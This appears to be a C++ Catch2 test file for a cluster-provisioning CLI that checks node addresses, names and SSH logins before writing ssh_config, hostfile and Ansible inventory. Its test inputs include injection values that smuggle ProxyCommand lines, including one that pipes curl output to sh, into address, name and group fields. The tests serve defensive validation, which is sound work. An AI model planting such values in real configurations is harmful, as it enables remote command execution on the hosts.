#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "cli/cluster_files.h"
#include "cli/exit_code.h"
#include "tests/support/scratch_dir.h"

using namespace kiln::cli;
using kiln::Result;
using kiln::Status;

namespace {

std::vector<ClusterNode> good_nodes() {
  return {
      {"n1", "w0", "workers", "h100-sxm-8x", "baremetal", {"10.0.0.5"}, "ubuntu@10.0.0.5", 8},
      {"n2", "w1", "workers", "h100-sxm-8x", "baremetal", {}, "", 8},
      {"n3", "d0", "dev", "cpu-lab", "virtual", {"10.0.1.9", "FD00:0::9"}, "debian@10.0.1.9", 0},
  };
}

// The refusal for `nodes`, as `kiln cluster up` prints it (after "error: ").
std::string refusal(const std::vector<ClusterNode>& nodes, const std::vector<std::string>& groups = {"workers", "dev"}) {
  Result<ClusterFiles> r = render_cluster_files("c", nlohmann::json::array(), groups, nodes);
  if (r) return "(accepted)";
  CHECK(exit_code_for(r.error()) == kExitUsage);
  return one_line(r.error());
}

std::string slurp(const std::string& path) {
  std::ifstream in(path);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

}  // namespace

TEST_CASE("cluster files: hostfile and ssh_config and inventory from the nodes' reported addresses") {
  Result<ClusterFiles> f = render_cluster_files("c", nlohmann::json::array(), {"workers", "dev"}, good_nodes());
  REQUIRE(f);
  CHECK(f->hostfile == "10.0.0.5 slots=8\n10.0.1.9 slots=1\n");
  CHECK(f->ssh_config ==
        "Host w0\n  HostName 10.0.0.5\n  User ubuntu\n\n# w1: no address reported yet\n"
        "Host d0\n  HostName 10.0.1.9\n  User debian\n\n");
  CHECK(f->inventory ==
        "[workers]\nw0 ansible_host=10.0.0.5 ansible_user=ubuntu\n# w1: no address reported yet\n\n"
        "[dev]\nd0 ansible_host=10.0.1.9 ansible_user=debian\n\n");
  auto doc = nlohmann::json::parse(f->cluster_json);
  CHECK(doc["nodes"][1]["addresses"].empty());
  CHECK(doc["nodes"][1]["ssh"].is_null());
  CHECK(doc["nodes"][0]["gpus"] == 8);
  CHECK(doc["nodes"][2]["addresses"] == nlohmann::json({"10.0.1.9", "fd00::9"}));  // canonical
  CHECK(doc["nodes"][2]["ssh"] == "debian@10.0.1.9");
}

TEST_CASE("cluster files: a node value a reader would misread refuses the run, naming the node and the field") {
  auto with = [](auto change) {
    std::vector<ClusterNode> nodes = good_nodes();
    change(nodes);
    return nodes;
  };
  // The chain from the field report: a scope id carrying a ProxyCommand line.
  CHECK(refusal(with([](auto& n) { n[0].addresses = {"fe80::1%eth0\nProxyCommand sh -c 'curl x|sh'"}; })) ==
        "node w0: addresses/0: \"fe80::1%eth0\\nProxyCommand sh -c 'curl x|sh'\" is not an IP address");
  // Every address is checked, not only the one the files use.
  CHECK(refusal(with([](auto& n) { n[2].addresses[1] = "fd00::9 #"; })) ==
        "node d0: addresses/1: \"fd00::9 #\" is not an IP address");
  CHECK(refusal(with([](auto& n) { n[0].addresses = {"10.0.0.5 ansible_ssh_common_args=-oProxyCommand=id"}; })) ==
        "node w0: addresses/0: \"10.0.0.5 ansible_ssh_common_args=-oProxyCommand=id\" is not an IP address");
  CHECK(refusal(with([](auto& n) { n[0].addresses = {std::string("10.0.0.5\0\nProxyCommand id", 25)}; })) ==
        "node w0: addresses/0: \"10.0.0.5\\0\\nProxyCommand id\" is not an IP address");
  // The user part of ssh, and its address.
  CHECK(refusal(with([](auto& n) { n[0].ssh = "ubuntu\n  ProxyCommand id\n@10.0.0.5"; })) ==
        "node w0: ssh: \"ubuntu\\n  ProxyCommand id\\n\" is not a login name (1-32 of a-z 0-9 _ -, starting with a-z or '_')");
  CHECK(refusal(with([](auto& n) { n[0].ssh = "ubuntu@10.0.0.5 -oProxyCommand=id"; })) ==
        "node w0: ssh: \"10.0.0.5 -oProxyCommand=id\" is not an IP address");
  CHECK(refusal(with([](auto& n) { n[0].ssh = "ubuntu"; })) == "node w0: ssh: \"ubuntu\" is not user@address");
  // The label of a node without an address is checked too: it lands in a
  // comment, and a newline would end the comment. The node is named by id.
  CHECK(refusal(with([](auto& n) { n[1].name = "w1\nHost *\n  ProxyCommand id"; })) ==
        "node n2: name: \"w1\\nHost *\\n  ProxyCommand id\" is not a host name (1-255 of A-Z a-z 0-9 . _ -, not "
        "starting with '-' or '.')");
  // Neither name nor id printable: the quoted value names the node.
  CHECK(refusal(with([](auto& n) { n[1] = {"x\ny", "", "workers", "p", "baremetal", {}, "", 0}; })) ==
        "node \"x\\ny\": id: \"x\\ny\" is not a host name (1-255 of A-Z a-z 0-9 . _ -, not starting with '-' or '.')");
  // The id is checked even when the name labels the node: it lands in
  // cluster.json, and a byte that is not UTF-8 made the JSON writer throw
  // (found by fuzz_cluster_files).
  CHECK(refusal(with([](auto& n) { n[0].id = "n1\xe0"; })).rfind("node w0: id: \"n1\\xe0\" is not a host name", 0) == 0);
  CHECK(refusal(with([](auto& n) { n[0].name = "-oProxyCommand=id"; })).rfind("node n1: name: ", 0) == 0);
  CHECK(refusal(with([](auto& n) { n[0].name = "w\xc3\xa9"; })).rfind("node n1: name: \"w\\xc3\\xa9\" is not", 0) == 0);
  CHECK(refusal(with([](auto& n) { n[0].gpus = -1; })) == "node w0: gpus: -1 is not a GPU count (0-4096)");
  CHECK(refusal(with([](auto& n) { n[0].gpus = 1LL << 40; })).rfind("node w0: gpus: ", 0) == 0);
  // Two nodes with one name: ssh would use the first block for both.
  CHECK(refusal(with([](auto& n) { n[2].name = "W0"; })) == "node W0: name: \"W0\" is also the name of node w0");
  CHECK(refusal(good_nodes(), {"workers", "dev\n[all:vars]"}) ==
        "group 1: \"dev\\n[all:vars]\" is not a group name (1-63 of A-Z a-z 0-9 _ -, not starting with '-')");
}

TEST_CASE("cluster files: a refused run writes nothing, an accepted one replaces all five files") {
  kiln::testing::ScratchDir dir;
  REQUIRE_FALSE(dir.path().empty());
  const std::string out = dir.path() + "/c";
  std::vector<ClusterNode> nodes = good_nodes();
  nodes[2].addresses = {"fe80::1%eth0\nProxyCommand id"};
  Status s = write_cluster_files(out, "c", nlohmann::json::array(), {"workers", "dev"}, nodes);
  REQUIRE_FALSE(s);
  CHECK(s.error().code == kiln::Code::kUnprocessable);
  CHECK_FALSE(std::filesystem::exists(out));  // not even the directory

  REQUIRE(write_cluster_files(out, "c", nlohmann::json::array(), {"workers", "dev"}, good_nodes()));
  std::vector<std::string> names;
  for (const auto& e : std::filesystem::directory_iterator(out)) names.push_back(e.path().filename().string());
  std::sort(names.begin(), names.end());
  CHECK(names == std::vector<std::string>{"cluster.json", "hostfile", "inventory.ini", "known_hosts",
                                          "ssh_config"});  // no temps
  CHECK(slurp(out + "/hostfile") == "10.0.0.5 slots=8\n10.0.1.9 slots=1\n");

  // A later refused run leaves the earlier files as they were.
  const std::string before = slurp(out + "/ssh_config");
  REQUIRE_FALSE(write_cluster_files(out, "c", nlohmann::json::array(), {"workers", "dev"}, nodes));
  CHECK(slurp(out + "/ssh_config") == before);
  CHECK(std::distance(std::filesystem::directory_iterator(out), std::filesystem::directory_iterator()) == 5);
}

TEST_CASE("cluster files: a spec string that is not UTF-8 does not make cluster.json throw") {
  std::vector<ClusterNode> nodes = good_nodes();
  nodes[0].profile = "h100\xff";
  Result<ClusterFiles> f = render_cluster_files("c", nlohmann::json::array(), {"workers", "dev"}, nodes);
  REQUIRE(f);
  CHECK(nlohmann::json::parse(f->cluster_json)["nodes"][0]["profile"] == "h100\xef\xbf\xbd");  // U+FFFD
}
